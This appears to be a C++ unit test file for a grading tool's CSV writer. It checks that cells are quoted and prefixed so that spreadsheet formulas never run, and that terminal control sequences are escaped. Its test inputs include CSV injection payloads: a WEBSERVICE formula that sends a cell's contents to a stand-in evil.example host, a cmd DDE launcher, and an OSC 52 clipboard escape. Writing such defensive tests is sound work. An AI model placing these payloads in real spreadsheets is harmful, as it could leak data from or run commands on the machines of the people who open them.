// CSV lines: the data cugrade reads back as written, and cells for a person's spreadsheet that
// never run as formulas (OWASP's guidance on CSV injection) and hold no terminal controls.
#include "grader/batch/csv_table.h"
#include "grader/process/temp_dir.h"
#include "tests/surfaces/terminal_controls.h"

#include <gtest/gtest.h>

#include <fstream>

namespace cugrade::batch {
namespace {

std::vector<std::string> read_back(const std::string& line) {
  const process::temp_dir tmp("cugrade-csv-test");
  std::ofstream(tmp.path() / "t.csv", std::ios::binary) << line;
  const auto rows = read_csv(tmp.path() / "t.csv");
  EXPECT_TRUE(rows.ok()) << rows.error();
  return rows && !rows->empty() ? rows->front().fields : std::vector<std::string>{};
}

TEST(SpreadsheetCsv, FormulaCellsAreQuotedAndPrefixed) {
  EXPECT_EQ(spreadsheet_csv_line({"=WEBSERVICE(\"http://evil.example/\"&A1)"}),
            "\"'=WEBSERVICE(\"\"http://evil.example/\"\"&A1)\"\n");
  EXPECT_EQ(spreadsheet_csv_line({"@SUM(1+1)"}), "\"'@SUM(1+1)\"\n");
  EXPECT_EQ(spreadsheet_csv_line({"+A1"}), "\"'+A1\"\n");
  EXPECT_EQ(spreadsheet_csv_line({"-2+3+cmd|' /C calc'!A0"}), "\"'-2+3+cmd|' /C calc'!A0\"\n");
  EXPECT_EQ(spreadsheet_csv_line({"\t=1+1"}), "\"'\t=1+1\"\n");
  EXPECT_EQ(spreadsheet_csv_line({"\n=1+1"}), "\"'\n=1+1\"\n");
  // A lone carriage return is a control: escaped, so the cell starts with a backslash.
  EXPECT_EQ(spreadsheet_csv_line({"\r=1+1"}), "\\x0d=1+1\n");
}

TEST(SpreadsheetCsv, OwaspExamplesReadBackAsText) {
  // OWASP's two examples: a separator and quotes inside cannot start a cell of their own.
  EXPECT_EQ(spreadsheet_csv_line({"=1+2\";=1+2"}), "\"'=1+2\"\";=1+2\"\n");
  EXPECT_EQ(spreadsheet_csv_line({"=1+2'\" ;,=1+2"}), "\"'=1+2'\"\" ;,=1+2\"\n");
  EXPECT_EQ(read_back(spreadsheet_csv_line({"=1+2\";=1+2", "x;=cmd"})),
            (std::vector<std::string>{"'=1+2\";=1+2", "x;=cmd"}));
}

TEST(SpreadsheetCsv, NumbersAndPlainTextStayAsTheyAre) {
  EXPECT_EQ(spreadsheet_csv_line({"-5", "+1.5", "-0.25", "2e-3", "17.5", "alice", "", "true"}),
            "-5,+1.5,-0.25,2e-3,17.5,alice,,true\n");
  EXPECT_EQ(spreadsheet_csv_line({"-", "--5", "-inf", "-nan", "+"}),
            "\"'-\",\"'--5\",\"'-inf\",\"'-nan\",\"'+\"\n");
}

TEST(SpreadsheetCsv, ControlsAreEscapedAndUtf8Kept) {
  const auto line = spreadsheet_csv_line(
      {"refs/heads/main\x1b]52;c;aGk=\x07", "caf\u00E9 \u65E5\u672C \U0001F680", "x\u202Ey"});
  EXPECT_TRUE(surfaces::terminal_controls_in(line).empty()) << line;
  // (quoted: the escaped OSC holds a semicolon, another spreadsheet's separator)
  EXPECT_EQ(line, "\"refs/heads/main\\x1b]52;c;aGk=\\x07\",caf\u00E9 \u65E5\u672C \U0001F680,"
                  "x\\u202ey\n");
}

TEST(SpreadsheetCsv, QuotedLinesQuoteEveryCellAndStillNeutraliseFormulas) {
  // Blackboard's comma-separated upload wants every field in quotes.
  EXPECT_EQ(quoted_spreadsheet_csv_line({"Last Name", "", "17.5", "=HYPERLINK(\"x\")"}),
            "\"Last Name\",\"\",\"17.5\",\"'=HYPERLINK(\"\"x\"\")\"\n");
  EXPECT_EQ(read_back(quoted_spreadsheet_csv_line({"a,b", "-3", "@x"})),
            (std::vector<std::string>{"a,b", "-3", "'@x"}));
}

TEST(Csv, DataLinesKeepTheirFieldsForCugradeToReadBack) {
  // A Slurm shard's roster: an id like -2+3 must come back as it was.
  const std::vector<std::string> fields{"-2+3", "/a,b", "say \"hi\"", "@x", "line\nbreak"};
  EXPECT_EQ(read_back(csv_line(fields)), fields);
}

} // namespace
} // namespace cugrade::batch
